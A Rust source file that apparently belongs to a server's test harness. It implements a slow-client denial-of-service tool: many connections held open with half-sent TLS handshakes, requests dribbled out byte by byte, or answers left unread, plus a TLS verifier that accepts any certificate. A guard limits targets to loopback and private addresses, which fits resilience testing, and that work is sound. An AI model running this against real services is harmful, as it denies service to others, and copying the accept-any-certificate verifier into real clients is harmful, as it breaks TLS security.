//! Slow clients: many connections that take their time, as somebody would who wants to keep others out.
//!
//! Ends when its standard input does, at the latest after a time; only loopback and private addresses are attacked.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Result, ensure};
use clap::ValueEnum;
use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::crypto::{CryptoProvider, aws_lc_rs, verify_tls12_signature, verify_tls13_signature};
use rustls::pki_types::{CertificateDer, ServerName, UnixTime};
use rustls::{ClientConfig, DigitallySignedStruct, SignatureScheme};
use serde_json::{Value, json};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::Notify;
use tokio::time::{sleep, timeout};
use tokio_rustls::TlsConnector;

/// Time over which the connections are opened.
const RAMP: Duration = Duration::from_secs(10);
/// Pause before a connection that was refused or closed is opened again.
const AGAIN: Duration = Duration::from_secs(5);
/// Longest wait for a connection and its handshake.
const PATIENCE: Duration = Duration::from_secs(30);
/// Pause between two bytes of a slow request.
const BYTE: Duration = Duration::from_secs(2);
/// Requests that are sent at once by one who reads no answer.
const UNREAD: usize = 16;
/// The beginning of a TLS handshake: a record that announces 512 bytes, of which few come.
const HALF_HELLO: &[u8] = &[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3];

/// The ways to be slow.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
enum Way {
    /// Connects and says nothing.
    Connect,
    /// Begins a TLS handshake and stops.
    Hello,
    /// Says nothing after the handshake.
    Idle,
    /// Sends the head of a request byte by byte.
    Head,
    /// Sends the body of a request byte by byte.
    Body,
    /// Asks for a large page again and again, and reads nothing.
    Unread,
}

/// The attack.
#[derive(Debug, clap::Args)]
pub(crate) struct Slow {
    /// The listener.
    #[arg(long)]
    address: SocketAddr,
    /// It speaks plain HTTP.
    #[arg(long)]
    plain: bool,
    /// Connections held open.
    #[arg(long)]
    connections: usize,
    /// Addresses that they come from, in turn; without one the system chooses.
    #[arg(long)]
    from: Vec<IpAddr>,
    /// How, in turn.
    #[arg(long, required = true)]
    way: Vec<Way>,
    /// Where slow bodies go.
    #[arg(long, default_value = "/")]
    post: String,
    /// The large page.
    #[arg(long, default_value = "/")]
    page: String,
    /// Longest time.
    #[arg(long)]
    seconds: u64,
}

/// What has happened so far.
#[derive(Debug, Default)]
struct Seen {
    opened: AtomicUsize,
    refused: AtomicUsize,
    closed: AtomicUsize,
    open: AtomicUsize,
    most: AtomicUsize,
}

/// Attacks; answers how many connections were opened, refused and closed by the other side.
pub(crate) async fn run(slow: Slow) -> Result<Value> {
    let is_private = match slow.address.ip() {
        IpAddr::V4(address) => address.is_loopback() || address.is_private(),
        IpAddr::V6(address) => address.is_loopback(),
    };
    ensure!(is_private, "{} is not an address of this machine's own", slow.address);
    let connector = TlsConnector::from(Arc::new(trusting_anybody()?));
    let (slow, seen, over) = (Arc::new(slow), Arc::new(Seen::default()), Arc::new(Notify::new()));
    let began = Instant::now();
    for number in 0..slow.connections {
        let (slow, seen, connector) = (Arc::clone(&slow), Arc::clone(&seen), connector.clone());
        tokio::spawn(async move {
            sleep(RAMP.mul_f64(number as f64 / slow.connections as f64)).await;
            loop {
                attack(&slow, &seen, &connector, number).await;
                sleep(AGAIN).await;
            }
        });
    }
    let told = Arc::clone(&over);
    std::thread::spawn(move || {
        // Whatever comes, it ends with the input.
        drop(std::io::copy(&mut std::io::stdin(), &mut std::io::sink()));
        told.notify_one();
    });
    let limit = Duration::from_secs(slow.seconds);
    let up = tokio::select! {
        () = sleep(RAMP) => true,
        () = over.notified() => false,
    };
    crate::print("ready")?;
    if up {
        drop(timeout(limit.saturating_sub(began.elapsed()), over.notified()).await);
    }
    let count = |counter: &AtomicUsize| counter.load(Ordering::Relaxed);
    Ok(json!({
        "opened": count(&seen.opened),
        "refused": count(&seen.refused),
        "closed": count(&seen.closed),
        "most": count(&seen.most),
        "seconds": began.elapsed().as_secs(),
    }))
}

/// One connection, from its opening to its end.
async fn attack(slow: &Slow, seen: &Seen, connector: &TlsConnector, number: usize) {
    let Some(way) = slow.way.get(number % slow.way.len()) else { return };
    let from = slow.from.get(number % slow.from.len().max(1)).copied();
    let Ok(Ok(stream)) = timeout(PATIENCE, connect(slow.address, from)).await else {
        seen.refused.fetch_add(1, Ordering::Relaxed);
        return;
    };
    seen.opened.fetch_add(1, Ordering::Relaxed);
    let open = seen.open.fetch_add(1, Ordering::Relaxed) + 1;
    seen.most.fetch_max(open, Ordering::Relaxed);
    match way {
        Way::Connect => until_closed(stream, &[]).await,
        Way::Hello => until_closed(stream, HALF_HELLO).await,
        _ if slow.plain => dawdle(slow, *way, stream).await,
        _ => {
            let name = ServerName::IpAddress(slow.address.ip().into());
            if let Ok(Ok(stream)) = timeout(PATIENCE, connector.connect(name, stream)).await {
                dawdle(slow, *way, stream).await;
            }
        }
    }
    seen.open.fetch_sub(1, Ordering::Relaxed);
    seen.closed.fetch_add(1, Ordering::Relaxed);
}

async fn connect(address: SocketAddr, from: Option<IpAddr>) -> std::io::Result<TcpStream> {
    let socket = if address.is_ipv4() { TcpSocket::new_v4() } else { TcpSocket::new_v6() }?;
    if let Some(from) = from {
        socket.bind((from, 0).into())?;
    }
    socket.connect(address).await
}

/// Says this much and waits for the other side to end it.
async fn until_closed<S: AsyncRead + AsyncWrite + Unpin>(mut stream: S, words: &[u8]) {
    if stream.write_all(words).await.is_err() || stream.flush().await.is_err() {
        return;
    }
    let mut buffer = [0; 1024];
    while stream.read(&mut buffer).await.is_ok_and(|count| count > 0) {}
}

async fn dawdle<S: AsyncRead + AsyncWrite + Unpin>(slow: &Slow, way: Way, stream: S) {
    let host = slow.address;
    let post = format!(
        "POST {} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\nContent-Length: 2000\r\n\r\n",
        slow.post
    );
    let get = format!("GET {} HTTP/1.1\r\nHost: {host}\r\n\r\n", slow.page);
    match way {
        Way::Head => by_byte(stream, b"", post.as_bytes()).await,
        Way::Body => by_byte(stream, post.as_bytes(), &[b' '; 2000]).await,
        Way::Unread => {
            let mut stream = stream;
            for _ in 0..UNREAD {
                if stream.write_all(get.as_bytes()).await.is_err() || stream.flush().await.is_err() {
                    return;
                }
            }
            // Whether it is still open shows only when writing.
            while stream.write_all(b"\r\n").await.is_ok() && stream.flush().await.is_ok() {
                sleep(AGAIN).await;
            }
        }
        _ => until_closed(stream, b"").await,
    }
}

/// Sends the first part at once and the second byte by byte, until the other side ends it.
async fn by_byte<S: AsyncRead + AsyncWrite + Unpin>(stream: S, first: &[u8], slowly: &[u8]) {
    let (mut reader, mut writer) = tokio::io::split(stream);
    let sending = async {
        writer.write_all(first).await?;
        for byte in slowly {
            writer.write_all(std::slice::from_ref(byte)).await?;
            writer.flush().await?;
            sleep(BYTE).await;
        }
        std::io::Result::Ok(())
    };
    let reading = async {
        let mut buffer = [0; 1024];
        while reader.read(&mut buffer).await.is_ok_and(|count| count > 0) {}
    };
    tokio::select! {
        _ = sending => {}
        () = reading => {}
    }
}

fn trusting_anybody() -> Result<ClientConfig> {
    let provider = Arc::new(aws_lc_rs::default_provider());
    let config = ClientConfig::builder_with_provider(Arc::clone(&provider)).with_safe_default_protocol_versions()?;
    let verifier = Arc::new(Anybody(provider));
    Ok(config.dangerous().with_custom_certificate_verifier(verifier).with_no_client_auth())
}

/// An attacker does not care whose certificate it is.
#[derive(Debug)]
struct Anybody(Arc<CryptoProvider>);

impl ServerCertVerifier for Anybody {
    fn verify_server_cert(
        &self,
        _certificate: &CertificateDer<'_>,
        _others: &[CertificateDer<'_>],
        _name: &ServerName<'_>,
        _ocsp: &[u8],
        _now: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        message: &[u8],
        certificate: &CertificateDer<'_>,
        signature: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        verify_tls12_signature(message, certificate, signature, &self.0.signature_verification_algorithms)
    }

    fn verify_tls13_signature(
        &self,
        message: &[u8],
        certificate: &CertificateDer<'_>,
        signature: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        verify_tls13_signature(message, certificate, signature, &self.0.signature_verification_algorithms)
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        self.0.signature_verification_algorithms.supported_schemes()
    }
}
